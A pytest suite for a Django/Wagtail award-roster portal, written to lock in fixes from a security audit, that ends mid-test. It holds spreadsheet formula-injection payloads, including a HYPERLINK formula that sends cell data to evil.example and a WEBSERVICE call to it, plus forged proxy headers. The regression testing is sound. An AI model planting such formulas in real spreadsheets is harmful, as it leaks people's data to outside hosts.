"""Issue “Trust”: findings of the outside audit, each class with a test that fails if it comes back."""

import csv
import io

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.log_actions import log

from roster import allowance, exports, statistics
from roster.models import AllowanceRun, Entry, Person
from roster.spreadsheets import csv_text
from tests import clock
from tests.factories import EntryFactory, PersonFactory, RoundFactory, UnitFactory, UserFactory
from tests.forms import form_data
from workflow import roles
from workflow.states import Status

S = Status
pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]


def cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# --- 3. Formula injection: every workbook and CSV the portal writes keeps text as text -------------------


@pytest.fixture
def hostile_entries():
    """Chief technicians whose unit typed formulas into the name, the unit and the deeds summary."""
    made, round_ = [], RoundFactory(year=2024)
    for n, formula in enumerate(FORMULAS):
        unit = UnitFactory(name=f"{formula}{n}")
        person = PersonFactory(unit=unit, name=formula[:30])
        made.append(EntryFactory(round=round_, person=person, status=S.ACTIVE, deeds_summary=formula))
    return made


def assert_text_only(content: bytes, expected: list[str]):
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a typed value became a formula"
    values = {c.value for c in found}
    for text in expected:
        assert text in values, text


def test_office_workbooks_write_typed_formulas_as_text(hostile_entries):
    entries = Entry.objects.all()
    names = [e.person.name for e in hostile_entries]
    assert_text_only(exports.talent_pool(entries, with_numbers=True), names)
    assert_text_only(exports.round_candidates(hostile_entries[0].round, entries, with_numbers=True), FORMULAS)
    assert_text_only(statistics.workbook("chief", "industry", [(FORMULAS[0], 1)]), [FORMULAS[0]])
    with clock.travel(2026, 11, 24):
        run = allowance.compute_run(2026)
    paid = [line.entry.person.name for line in run.lines.select_related("entry__person")]
    assert paid
    assert_text_only(allowance.run_workbook(run), paid)


def test_csv_cells_that_start_a_formula_are_escaped():
    for formula in FORMULAS:
        assert csv_text(formula) == "'" + formula
    assert csv_text("林一帆") == "林一帆" and csv_text(3) == 3


def test_wagtail_site_history_csv_escapes_typed_formulas(client):
    admin = get_user_model().objects.create_superuser("root", "root@example.cn", "pw-test-123")
    unit = UnitFactory(name=FORMULAS[0])
    log(instance=unit, action="wagtail.create", user=admin)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body)))
    labels = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULAS[0] in labels and FORMULAS[0] not in labels


# --- 4. Finance sees and downloads approved allowance runs only -----------------------------------------


def test_finance_never_sees_or_downloads_a_run_not_yet_approved(client):
    office, second = UserFactory(role=roles.OFFICE), UserFactory(role=roles.OFFICE)
    finance = UserFactory(role=roles.FINANCE)
    EntryFactory(status=S.ACTIVE, round=RoundFactory(year=2022))
    with clock.travel(2026, 11, 24):
        pending = allowance.compute_run(2024, office)
        approved = allowance.approve_run(allowance.compute_run(2023, office), second)
    assert not pending.approved and approved.approved
    client.force_login(finance)
    listing = client.get(reverse("roster_allowance_runs")).content.decode()
    assert "2023" in listing and reverse("roster_allowance_run", args=(2024,)) not in listing
    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 404
    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 404
    download = client.get(reverse("roster_allowance_download", args=(2023,)))
    assert download.status_code == 200 and download.content.startswith(b"PK")
    # The office still sees and downloads the run it is preparing.
    client.force_login(office)
    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 200
    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 200
    assert AllowanceRun.objects.count() == 2


# --- 7. Crafted admin input gets a clear refusal, never a 500, and changes nothing -------------------------

HUGE = "1234567890123456789012345"


@pytest.fixture
def office_client(client):
    client.force_login(UserFactory(role=roles.OFFICE))
    client.raise_request_exception = False
    return client


@pytest.mark.parametrize("model", ["person", "unit", "entry"])
def test_admin_list_search_by_chinese_name_answers(office_client, model):
    entry = EntryFactory()
    entry.person.name = "林一帆"
    entry.person.save()
    response = office_client.get(f"/admin/snippets/roster/{model}/", {"q": "林"})
    assert response.status_code == 200
    if model == "person":
        assert "林一帆" in response.content.decode()


def test_crafted_ids_in_edit_forms_are_refused_in_chinese_and_change_nothing(office_client):
    entry = EntryFactory()
    person = entry.person
    before = (Entry.objects.get(pk=entry.pk).round_id, person.name)
    for url, data in (
        (f"/admin/snippets/roster/entry/edit/{entry.pk}/", {"round": "abc", "person": person.pk}),
        (f"/admin/snippets/roster/person/edit/{person.pk}/", {"photo": "abc", "name": "改名", "unit": HUGE}),
        (f"/admin/snippets/roster/round/edit/{entry.round.pk}/", {"experts": [HUGE, "abc"], "year": 2024}),
    ):
        response = office_client.post(url, data)
        assert response.status_code == 200, (url, response.status_code)
        assert "所选项不存在" in response.content.decode(), url
    person.refresh_from_db()
    assert (Entry.objects.get(pk=entry.pk).round_id, person.name) == before


def test_crafted_bulk_ids_are_refused(office_client):
    entry = EntryFactory()
    response = office_client.get(f"/admin/bulk/roster/entry/delete/?id={HUGE}&id=x", follow=True)
    assert response.status_code == 200
    assert "所选记录编号无效" in response.content.decode()
    assert Entry.objects.filter(pk=entry.pk).exists()


# --- 1 (part). Snippet choosers follow the row rules and never create ------------------------------------


def test_snippet_choosers_list_only_visible_rows_and_create_nothing(client):
    mine, other = EntryFactory(), EntryFactory()
    recommender = UserFactory(role=roles.RECOMMENDER, unit=mine.unit)
    client.force_login(recommender)
    client.raise_request_exception = False
    for model, own, foreign in (
        ("person", mine.person, other.person),
        ("entry", mine, other),
        ("unit", mine.unit, other.unit),
    ):
        listing = client.get(f"/admin/snippets/choose/roster/{model}/")
        assert listing.status_code in (200, 302, 403), model
        if listing.status_code == 200:
            assert str(foreign) not in listing.content.decode(), model
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{own.pk}/").status_code == 200, model
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{foreign.pk}/").status_code in (302, 403, 404)
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{HUGE}/").status_code in (302, 403, 404)
        created = client.post(f"/admin/snippets/choose/roster/{model}/create/", {"name": "新建"})
        assert created.status_code in (302, 403), (model, created.status_code)


def _body(response) -> str:
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode()


def test_site_history_shows_case_records_only_to_those_who_see_every_row(client, demo_site):
    withdrawn = EntryFactory(status=S.WITHDRAWN, person=PersonFactory(name="撤回者"))
    log(instance=withdrawn, action="wagtail.edit", user=UserFactory(role=roles.OFFICE, first_name="办", last_name="甲"))
    home = demo_site["policy"]
    log(instance=home, action="wagtail.edit", user=UserFactory(role=roles.EDITOR))
    urls = (
        "/admin/reports/site-history/",
        "/admin/reports/site-history/results/",
        "/admin/reports/site-history/?export=csv",
    )
    closed = (
        UserFactory(role=roles.RECOMMENDER, unit=withdrawn.unit),
        UserFactory(role=roles.EXPERT),
        UserFactory(role=roles.FINANCE),
    )
    for user in closed:
        client.force_login(user)
        for url in urls:
            response = client.get(url)
            assert response.status_code in (302, 403) and "撤回者" not in _body(response), (user, url)
            if response.status_code == 403:
                assert "没有权限" in _body(response)
        menu = client.get("/admin/reports/").content.decode() + client.get("/admin/").content.decode()
        assert "/admin/reports/site-history/" not in menu
    client.force_login(UserFactory(role=roles.EDITOR))
    for url in urls:
        body = _body(client.get(url))
        assert "撤回者" not in body and "办甲" not in body, url
    assert home.title in _body(client.get(urls[2]))
    client.force_login(UserFactory(role=roles.OFFICE))
    assert "撤回者" in _body(client.get(urls[2]))


def test_bulk_confirmations_never_name_rows_the_user_cannot_see(client):
    mine, theirs = EntryFactory(), EntryFactory(person=PersonFactory(name="别家人"))
    client.force_login(UserFactory(role=roles.RECOMMENDER, unit=mine.unit))
    for query in (f"id={theirs.pk}", f"id={mine.pk}&id={theirs.pk}", "id=all"):
        response = client.get(f"/admin/bulk/roster/entry/delete/?{query}", follow=True)
        html = response.content.decode()
        assert "别家人" not in html and "所选记录编号无效" in html, query
    for model, row in (("person", theirs.person), ("unit", theirs.unit)):
        response = client.get(f"/admin/bulk/roster/{model}/delete/?id={row.pk}", follow=True)
        assert str(row) not in response.content.decode() and "所选记录编号无效" in response.content.decode()
    assert Entry.objects.filter(pk=theirs.pk).exists()
    assert mine.person.name in client.get(f"/admin/bulk/roster/entry/delete/?id={mine.pk}").content.decode()


# --- 10 (part). A certificate number keeps the district's format ----------------------------------------


def test_certify_refuses_a_certificate_number_in_another_format(client):
    from django.contrib.messages import get_messages

    office = UserFactory(role=roles.OFFICE)
    entry = EntryFactory(status=S.GOVERNMENT_REVIEW)
    client.force_login(office)
    url = reverse("roster_entry_move", args=(entry.pk, "certify"))
    for number in ("随便写", "=1+1", "SZSX-24-1", "ABC-2024-001"):
        response = client.post(url, {"announcement_date": "2025-01-20", "certificate_number": number})
        notes = [str(m) for m in get_messages(response.wsgi_request)]
        assert any("SZSX-年度-序号" in n for n in notes), (number, notes)
        entry.refresh_from_db()
        assert entry.status == S.GOVERNMENT_REVIEW and not entry.certificate_number
    client.post(url, {"announcement_date": "2025-01-20", "certificate_number": "SZSX-2024-007"})
    entry.refresh_from_db()
    assert entry.status == S.ACTIVE and entry.certificate_number == "SZSX-2024-007"


# --- 10 (part). A body larger than any form accepts is refused before it is read ----------------------------


def test_an_oversize_request_body_is_refused_unread(client, demo_site, settings):
    from roster.models import Objection
    from tests.factories import objection_data

    settings.MAX_REQUEST_BYTES = 4096
    notice = demo_site["publicity"]
    candidate = EntryFactory(round=notice.round, status=S.DISTRICT_PUBLICITY)
    big = SimpleUploadedFile("big.pdf", b"%PDF-1.4\n" + b"%" * 8192, content_type="application/pdf")
    response = client.post(notice.objection_url(), objection_data(candidate, attachment=big))
    assert response.status_code == 413
    assert "未被接收" in response.content.decode()
    assert not Objection.objects.exists()
    # A body within the cap reaches the form as before.
    assert client.get(notice.objection_url()).status_code == 200


# --- 5. The lockout, the rate limits and the logs key on the client, not on the proxy --------------------

PROXY = "10.0.0.1"  # nginx, as the app sees it


def lookup(client, demo_site, client_address=None, forged=""):
    """A certificate lookup from `client_address`, reaching the app through the proxy."""
    headers = {"REMOTE_ADDR": PROXY}
    if client_address:
        headers["HTTP_X_FORWARDED_FOR"] = f"{forged}{client_address}"
    return client.get(f"{demo_site['roster'].url}verify/?number=SZSX-1999-001", **headers)


def test_behind_one_proxy_each_visitor_has_a_quota_of_their_own(demo_site, client, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    for _ in range(10):
        assert lookup(client, demo_site, "203.0.113.9").status_code == 200
    assert lookup(client, demo_site, "203.0.113.9").status_code == 429
    # What the visitor writes into the header themselves (left of the proxy's entry) changes nothing.
    assert lookup(client, demo_site, "203.0.113.9", forged="198.51.100.1, ").status_code == 429
    # Another visitor behind the same proxy is not limited.
    assert lookup(client, demo_site, "198.51.100.7").status_code == 200


def test_without_a_trusted_proxy_the_forwarded_header_is_ignored(demo_site, client, settings):
    assert settings.TRUSTED_PROXY_COUNT == 0  # the default
    for n in range(10):
        assert lookup(client, demo_site, f"203.0.113.{n}").status_code == 200
    assert lookup(client, demo_site, "203.0.113.99").status_code == 429


def test_a_stranger_behind_the_proxy_cannot_lock_a_staff_account(client, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    UserFactory(username="office1", password="correct-horse-battery")
    login = reverse("wagtailadmin_login")
    stranger = {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": "203.0.113.9"}
    for n in range(6):
        client.post(
            login,
            {"username": "office1", "password": "wrong"},
            HTTP_X_FORWARDED_FOR=f"192.0.2.{n}, 203.0.113.9",
            REMOTE_ADDR=PROXY,
        )
    locked = client.post(login, {"username": "office1", "password": "correct-horse-battery"}, **stranger)
    assert "登录已暂时锁定" in locked.content.decode()
    staff = {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": "198.51.100.7"}
    response = client.post(login, {"username": "office1", "password": "correct-horse-battery"}, **staff)
    assert response.status_code == 302 and "_auth_user_id" in client.session


def test_log_lines_name_the_client_not_the_proxy(client, office, settings):
    import logging

    from portal.clientip import ClientAddressFilter

    settings.TRUSTED_PROXY_COUNT = 1
    entry = EntryFactory(status=S.SUBMITTED)
    records = []
    handler = logging.Handler()
    handler.addFilter(ClientAddressFilter())
    handler.emit = records.append
    logging.getLogger("roster").addHandler(handler)
    try:
        client.force_login(office)
        client.post(
            reverse("roster_entry_move", args=(entry.pk, "pass_qualification")),
            {"comment": "材料齐全"},
            REMOTE_ADDR=PROXY,
            HTTP_X_FORWARDED_FOR="192.0.2.1, 203.0.113.9",
        )
    finally:
        logging.getLogger("roster").removeHandler(handler)
    assert Entry.objects.get(pk=entry.pk).status == S.QUALIFIED
    moves = [r for r in records if "pass_qualification" in r.getMessage()]
    assert moves and {r.client for r in moves} == {"203.0.113.9"}
    # Outside a request the field is still set, so the log format never fails.
    outside = logging.makeLogRecord({"msg": "daily job"})
    assert ClientAddressFilter().filter(outside) and outside.client == "-"


# --- 2. Who the candidate is never changes after unit publicity has started --------------------------------


@pytest.fixture
def returned_entry():
    """An entry that went through unit publicity and was returned for correction (the application is editable)."""
    return EntryFactory(status=S.RETURNED)


def test_a_returned_entry_keeps_its_person_unit_and_round(client, returned_entry):
    entry = returned_entry
    recommender = UserFactory(role=roles.RECOMMENDER, unit=entry.unit)
    stand_in = PersonFactory(unit=entry.unit, name="顶替者")
    other_round = RoundFactory(year=entry.round.year + 2)
    client.force_login(recommender)
    url = f"/admin/snippets/roster/entry/edit/{entry.pk}/"
    data = form_data(client, url)
    assert data, "the edit form is offered in returned"
    data.update(person=[str(stand_in.pk)], round=[str(other_round.pk)], specialty=["补正后的技能专长"])
    response = client.post(url, data)
    stored = Entry.objects.get(pk=entry.pk)
    assert (stored.person_id, stored.round_id, stored.unit_id) == (entry.person_id, entry.round_id, entry.unit_id)
    assert response.status_code in (200, 302)
    # The model refuses it too, whatever path the change takes.
    for field, value in (("person", stand_in), ("round", other_round)):
        changed = Entry.objects.get(pk=entry.pk)
        setattr(changed, field, value)
        with pytest.raises(ValidationError) as refused:
            changed.full_clean()
        assert field in refused.value.message_dict
        assert "不能" in refused.value.message_dict[field][0]


def test_the_persons_name_id_number_and_unit_are_fixed_after_publicity(client, returned_entry):
    person = returned_entry.person
    before = (person.name, person.id_number, person.unit_id)
    for user in (UserFactory(role=roles.RECOMMENDER, unit=person.unit), UserFactory(role=roles.OFFICE)):
        client.force_login(user)
        url = f"/admin/snippets/roster/person/edit/{person.pk}/"
        data = form_data(client, url)
        data.update(name=["冒名者"], id_number=[PersonFactory.build().id_number], phone=["13900000000"])
        client.post(url, data)
        stored = Person.objects.get(pk=person.pk)
        assert (stored.name, stored.id_number, stored.unit_id) == before, user
    changed = Person.objects.get(pk=person.pk)
    changed.name, changed.unit = "冒名者", UnitFactory()
    with pytest.raises(ValidationError) as refused:
        changed.full_clean()
    assert {"name", "unit"} <= set(refused.value.message_dict)
    assert "第九条第二项" in refused.value.message_dict["name"][0]


def test_a_draft_changes_its_person_but_never_its_round(returned_entry):
    draft = EntryFactory(status=S.DRAFT)
    other = PersonFactory(unit=draft.unit)
    draft.person = other
    draft.full_clean()  # a draft has not been published: another candidate is still this entry
    draft.person.name = "草稿改名"
    draft.person.full_clean()
    closed = RoundFactory(year=draft.round.year - 2)
    draft.round = closed
    with pytest.raises(ValidationError) as refused:
        draft.full_clean()
    assert "评选批次" in refused.value.message_dict["round"][0]


# --- 10. Other faults ---------------------------------------------------------------------------------------


def test_a_registered_id_number_gets_one_answer_wherever_it_is_registered(client):
    mine, theirs = UnitFactory(name="本单位甲"), UnitFactory(name="他单位乙")
    own_person, their_person = PersonFactory(unit=mine), PersonFactory(unit=theirs, name="乙单位人")
    client.force_login(UserFactory(role=roles.RECOMMENDER, unit=mine))
    url = reverse("wagtailsnippets_roster_person:add")
    answers = []
    for taken in (own_person.id_number, their_person.id_number):
        data = form_data(client, url)
        data.update(
            name=["新登记"],
            id_number=[taken],
            phone=["13900000001"],
            occupation=["焊工"],
            qualification_level=["1"],
            qualification_certificate=["Z-1"],
            qualification_date=["2015-06-01"],
            unit=[str(mine.pk)],
        )
        response = client.post(url, data)
        assert response.status_code == 200
        html = response.content.decode()
        assert "乙单位人" not in html and "他单位乙" not in html
        answers.append(
            BeautifulSoup(html, "html.parser")
            .select_one("[data-field-wrapper] .error-message, .error-message")
            .text.strip()
        )
    assert answers[0] == answers[1] and "已有登记" in answers[0]
    assert Person.objects.filter(name="新登记").count() == 0


def test_password_reset_requests_are_throttled(client, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    url = reverse("wagtailadmin_password_reset")
    UserFactory(email="office@example.cn")
    codes = [client.post(url, {"email": f"nobody{n}@example.cn"}).status_code for n in range(5)]
    assert 429 not in codes
    limited = client.post(url, {"email": "office@example.cn"})
    assert limited.status_code == 429 and "过于频繁" in limited.content.decode()
    # One address asked for again and again is limited too, from any client.
    for n in range(3):
        client.post(url, {"email": "office@example.cn"}, REMOTE_ADDR=f"192.0.2.{n + 10}")
    assert client.post(url, {"email": "office@example.cn"}, REMOTE_ADDR="192.0.2.99").status_code == 429


def test_a_get_to_logout_leaves_the_session_alone(client, office):
    client.force_login(office)
    session_key = client.cookies[settings_session_cookie()].value
    refused = client.get("/admin/logout/")
    assert refused.status_code == 405 and "退出登录" in refused.content.decode()
    assert settings_session_cookie() not in refused.cookies
    assert client.get("/admin/").status_code == 200 and client.cookies[settings_session_cookie()].value == session_key
    signed_out = client.post("/admin/logout/")
    assert signed_out.status_code == 302 and client.get("/admin/").status_code == 302


def settings_session_cookie() -> str:
    from django.conf import settings

    return settings.SESSION_COOKIE_NAME


# --- The bar: passwords and sessions ------------------------------------------------------------------------


def change_password(client, old: str, new: str):
    url = reverse("wagtailadmin_account")
    data = {k: v for k, v in form_data(client, url).items() if not k.startswith("password-")}
    data.update({"password-old_password": [old], "password-new_password1": [new], "password-new_password2": [new]})
    return client.post(url, data)


def test_passwords_are_long_mixed_and_not_one_of_the_last_five(client):
    user = UserFactory(role=roles.OFFICE, password="Start-pass-2026", first_name="办", last_name="王")
    client.force_login(user)
    for weak, reason in (("Ab3-xyz", "至少需要 10 个字符"), ("abcdefghijkl", "至少2类"), ("1839204756", "至少2类")):
        response = change_password(client, "Start-pass-2026", weak)
        assert reason in response.content.decode(), weak
        user.refresh_from_db()
        assert user.check_password("Start-pass-2026")
    history = [f"Portal-{n}-secret" for n in range(6)]
    current = "Start-pass-2026"
    for new in history:
        response = change_password(client, current, new)
        user.refresh_from_db()
        assert user.check_password(new), BeautifulSoup(response.content, "html.parser").select(".error-message")
        current = new
    # The last five are refused; the sixth from the end may come back.
    for used in history[-5:-1]:
        response = change_password(client, current, used)
        assert "重复使用" in response.content.decode(), used
        user.refresh_from_db()
        assert user.check_password(current)
    change_password(client, current, history[0])
    user.refresh_from_db()
    assert user.check_password(history[0])


def test_a_session_ends_after_30_idle_minutes_and_8_hours_at_most(client, office):
    import datetime

    import time_machine

    def at(moment):
        return time_machine.travel(moment, tick=False)

    start = clock.NOW
    with at(start):
        client.force_login(office)
        assert client.get("/admin/").status_code == 200
    with at(start + datetime.timedelta(minutes=29)):
        assert client.get("/admin/").status_code == 200
    with at(start + datetime.timedelta(minutes=60)):
        ended = client.get("/admin/roster/", follow=True)
        assert "超过30分钟未操作" in ended.content.decode()
        assert ended.redirect_chain[0][0].startswith(reverse("wagtailadmin_login"))
        assert "_auth_user_id" not in client.session
    login_at = moment = start + datetime.timedelta(hours=2)
    with at(login_at):
        client.force_login(office)
    while moment - login_at < datetime.timedelta(hours=10):
        moment += datetime.timedelta(minutes=20)
        with at(moment):
            response = client.get("/admin/")
        if response.status_code != 200:
            break
    # Busy all along, the user is still asked to sign in again once 8 hours have passed.
    assert response.status_code == 302 and moment - login_at == datetime.timedelta(hours=8, minutes=20)
    with at(moment):
        assert "已满8小时" in client.get(response.url).content.decode()


# --- 8. One masking rule; every full view and every download of personal data is logged --------------------


def docx_text(content: bytes) -> str:
    from docx import Document

    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def test_personal_numbers_follow_one_rule_and_each_full_view_is_logged(client):
    from roster.audit import PersonalDataAccess

    entry = EntryFactory(status=S.SUBMITTED)
    person = entry.person
    full, masked = person.id_number, person.masked_id_number
    office = UserFactory(role=roles.OFFICE)
    own = UserFactory(role=roles.RECOMMENDER, unit=entry.unit)
    leader = UserFactory(role=roles.LEADING_GROUP)
    pages = {
        "list": reverse("wagtailsnippets_roster_person:list"),
        "person": reverse("wagtailsnippets_roster_person:inspect", args=(person.pk,)),
        "entry": reverse("wagtailsnippets_roster_entry:inspect", args=(entry.pk,)),
    }
    for user in (office, own):
        client.force_login(user)
        listing = client.get(pages["list"]).content.decode()
        assert full not in listing and person.phone not in listing and masked in listing
        before = PersonalDataAccess.objects.count()
        for key in ("person", "entry"):
            html = client.get(pages[key], REMOTE_ADDR="192.0.2.44").content.decode()
            assert full in html and person.phone in html, (user, key)
        logged = PersonalDataAccess.objects.order_by("pk")[before:]
        assert [(r.user, r.person, r.client, r.kind) for r in logged] == [(user, person, "192.0.2.44", "view")] * 2
        form = client.get(reverse("roster_form_docx", args=(entry.pk,)))
        assert full in docx_text(form.content)
        assert PersonalDataAccess.objects.order_by("pk").last().kind == "download"
    client.force_login(leader)
    before = PersonalDataAccess.objects.count()
    html = client.get(pages["entry"]).content.decode()
    assert full not in html and person.phone not in html and masked in html
    assert PersonalDataAccess.objects.count() == before
    # No personal number is written into the log itself.
    assert not PersonalDataAccess.objects.filter(what__contains=full).exists()


def test_finance_reads_full_id_numbers_only_on_an_approved_payment_sheet(client):
    from roster.allowance import approve_run, compute_run
    from roster.audit import PersonalDataAccess

    entry = EntryFactory(status=S.ACTIVE, round=RoundFactory(year=2022))
    first, second, finance = (
        UserFactory(role=roles.OFFICE),
        UserFactory(role=roles.OFFICE),
        UserFactory(role=roles.FINANCE),
    )
    run = compute_run(2024, first)
    client.force_login(first)
    draft = [c.value for c in cells(client.get(reverse("roster_allowance_download", args=(2024,))).content)]
    assert entry.person.id_number not in draft and entry.person.masked_id_number in draft
    approve_run(run, second)
    client.force_login(finance)
    paid = [c.value for c in cells(client.get(reverse("roster_allowance_download", args=(2024,))).content)]
    assert entry.person.id_number in paid
    assert PersonalDataAccess.objects.filter(user=finance, kind="download", what__contains="2024年度津贴").exists()


def test_the_office_reads_both_logs_and_nobody_changes_them(client):
    from roster.audit import PersonalDataAccess, SecurityEvent

    office9 = UserFactory(username="office9", password="Right-pass-2026", role=roles.OFFICE)
    login = reverse("wagtailadmin_login")
    client.post(login, {"username": "office9", "password": "wrong"}, REMOTE_ADDR="192.0.2.7")
    client.post(login, {"username": "office9", "password": "Right-pass-2026"}, REMOTE_ADDR="192.0.2.8")
    events = list(SecurityEvent.objects.order_by("pk").values_list("kind", "username", "client"))
    assert events[-2:] == [("login_failed", "office9", "192.0.2.7"), ("login", "office9", "192.0.2.8")]
    client.force_login(office9)  # and the second factor (tested below)
    html = client.get(reverse("roster_security_log"), {"kind": "login_failed"}).content.decode()
    assert "登录失败" in html and "192.0.2.7" in html and "192.0.2.8" not in html
    entry = EntryFactory()
    client.get(reverse("wagtailsnippets_roster_entry:inspect", args=(entry.pk,)))
    access = client.get(reverse("roster_access_log")).content.decode()
    assert str(entry) in access and "office9" in access
    row = PersonalDataAccess.objects.get()
    with pytest.raises(ValidationError):
        row.delete()
    row.what = "改写"
    with pytest.raises(ValidationError):
        row.save()
    assert PersonalDataAccess.objects.get().what != "改写"
    for role in (roles.RECOMMENDER, roles.FINANCE, roles.EDITOR, roles.LEADING_GROUP, roles.EXPERT):
        client.force_login(UserFactory(role=role, unit=entry.unit if role == roles.RECOMMENDER else None))
        for url in (reverse("roster_access_log"), reverse("roster_security_log")):
            assert client.get(url).status_code in (302, 403), (role, url)
    # No admin view edits or deletes them: neither model is registered with Wagtail or Django's admin.
    from wagtail.admin.admin_url_finder import AdminURLFinder

    assert AdminURLFinder(UserFactory(is_superuser=True)).get_edit_url(row) is None


def test_security_events_record_account_and_rule_changes():
    from django.contrib.auth.models import Group

    from roster.audit import SecurityEvent
    from roster.models import StaffProfile
    from workflow.models import OfficialCalendarYear, RuleSet

    user = UserFactory(role=roles.RECOMMENDER, unit=UnitFactory(name="甲单位"))
    user.groups.add(Group.objects.get(name=roles.OFFICE))
    profile = StaffProfile.objects.get(user=user)
    profile.unit = UnitFactory(name="乙单位")
    profile.save()
    rules = RuleSet.objects.first()
    rules.save()
    OfficialCalendarYear.objects.create(year=2031, source="测试", published=True)
    details = list(SecurityEvent.objects.order_by("pk").values_list("kind", "detail"))
    kinds = [kind for kind, _ in details]
    assert {"roles", "unit", "rules", "calendar"} <= set(kinds)
    assert any(kind == "roles" and roles.OFFICE in detail and user.username in detail for kind, detail in details)
    assert any(kind == "unit" and "乙单位" in detail for kind, detail in details)


# --- 9. Experts are kept apart: the role, their own scores, 回避, never their own unit ----------------------

SCORE = {
    "score": 88,
    "finding_ethics": "爱岗敬业",
    "finding_skill": "技艺精湛",
    "finding_innovation": "革新两项",
    "finding_mentoring": "带徒五人",
    "opinion": "同意推荐",
}


@pytest.fixture
def panel():
    entry = EntryFactory(status=S.QUALIFIED)
    first = UserFactory(role=roles.EXPERT, first_name="评", last_name="甲")
    second = UserFactory(role=roles.EXPERT, first_name="评", last_name="乙")
    entry.round.experts.add(first, second)
    return entry, first, second


def test_only_holders_of_the_expert_role_join_a_panel(client, panel):
    entry, first, second = panel
    finance, recommender = UserFactory(role=roles.FINANCE), UserFactory(role=roles.RECOMMENDER, unit=entry.unit)
    panel_before = set(entry.round.experts.all())
    for outsider in (finance, recommender):
        with pytest.raises(ValidationError), transaction.atomic():
            entry.round.experts.add(outsider)
    client.force_login(UserFactory(role=roles.OFFICE))
    url = reverse("wagtailsnippets_roster_round:edit", args=(entry.round.pk,))
    data = form_data(client, url)
    data["experts"] = [str(first.pk), str(finance.pk)]
    response = client.post(url, data)
    assert response.status_code == 200 and set(entry.round.experts.all()) == panel_before
    assert finance.username not in form_data(client, url).get("experts", []) and str(finance.pk) not in "".join(
        o.get("value", "")
        for o in BeautifulSoup(client.get(url).content, "html.parser").select(
            "[name=experts] option, input[name=experts]"
        )
    )


def test_an_expert_reads_only_its_own_scores_and_the_office_reads_all(client, panel):
    entry, first, second = panel
    page = reverse("wagtailsnippets_roster_entry:inspect", args=(entry.pk,))
    client.force_login(first)
    client.post(reverse("roster_score_add", args=(entry.pk,)), SCORE)
    client.force_login(second)
    before = client.get(page).content.decode()
    assert "技艺精湛" not in before and "评甲" not in before and "甲评" not in before
    client.post(reverse("roster_score_add", args=(entry.pk,)), {**SCORE, "score": 75, "finding_skill": "熟练"})
    after = client.get(page).content.decode()
    assert "熟练" in after and "技艺精湛" not in after
    client.force_login(UserFactory(role=roles.OFFICE))
    office = client.get(page).content.decode()
    assert "熟练" in office and "技艺精湛" in office


def test_units_never_learn_who_the_experts_are(client, panel):
    entry, first, second = panel
    url = reverse("wagtailsnippets_roster_round:inspect", args=(entry.round.pk,))
    client.force_login(UserFactory(role=roles.RECOMMENDER, unit=entry.unit))
    html = client.get(url).content.decode()
    assert client.get(url).status_code == 200 and first.username not in html and "评审专家" not in html
    client.force_login(UserFactory(role=roles.OFFICE))
    assert first.username in client.get(url).content.decode() or "评甲" in client.get(url).content.decode()


def test_an_expert_of_the_candidates_unit_or_who_declared_recusal_never_scores(client, panel):
    from roster.models import ExpertRecusal, StaffProfile

    entry, first, second = panel
    StaffProfile.objects.update_or_create(user=first, defaults={"unit": entry.unit})
    page = reverse("wagtailsnippets_roster_entry:inspect", args=(entry.pk,))
    client.force_login(first)
    assert "本单位的申报须回避" in client.get(page).content.decode()
    client.post(reverse("roster_score_add", args=(entry.pk,)), SCORE)
    assert not entry.expert_scores.filter(expert__in=(first, second)).exists()
    client.force_login(second)
    client.post(reverse("roster_recusal_add", args=(entry.pk,)), {"reason": "与申报人为师徒关系"})
    assert ExpertRecusal.objects.filter(entry=entry, expert=second).exists()
    client.post(reverse("roster_score_add", args=(entry.pk,)), SCORE)
    assert not entry.expert_scores.filter(expert__in=(first, second)).exists()
    assert "您已声明回避" in client.get(page).content.decode()
    client.force_login(UserFactory(role=roles.OFFICE))
    assert "与申报人为师徒关系" in client.get(page).content.decode()


# --- PIPL: pseudonymisation keeps the person recognisable ----------------------------------------------------


def test_numbers_of_persons_long_ended_are_pseudonymised_and_a_new_application_is_still_recognised(settings):
    import datetime

    from roster import idnumber
    from roster.management.commands.roster_daily import Command as Daily
    from roster.pseudonymise import pseudonymise_due

    settings.PERSONAL_DATA_RETENTION_YEARS = 5
    with clock.travel(2019, 6, 3):
        old = EntryFactory(
            status=S.REVOKED, round=RoundFactory(year=2016), revocation_ground=2, revoked_on=datetime.date(2019, 6, 3)
        )
    with clock.travel(2023, 3, 1):
        recent = EntryFactory(status=S.NOT_SELECTED, round=RoundFactory(year=2022))
    running = EntryFactory(status=S.ACTIVE)
    real_id = old.person.id_number
    key = old.person.id_key
    assert key == idnumber.keyed_hash(real_id)
    untouched = {p.pk: (p.id_number, p.phone) for p in (recent.person, running.person)}

    out = io.StringIO()
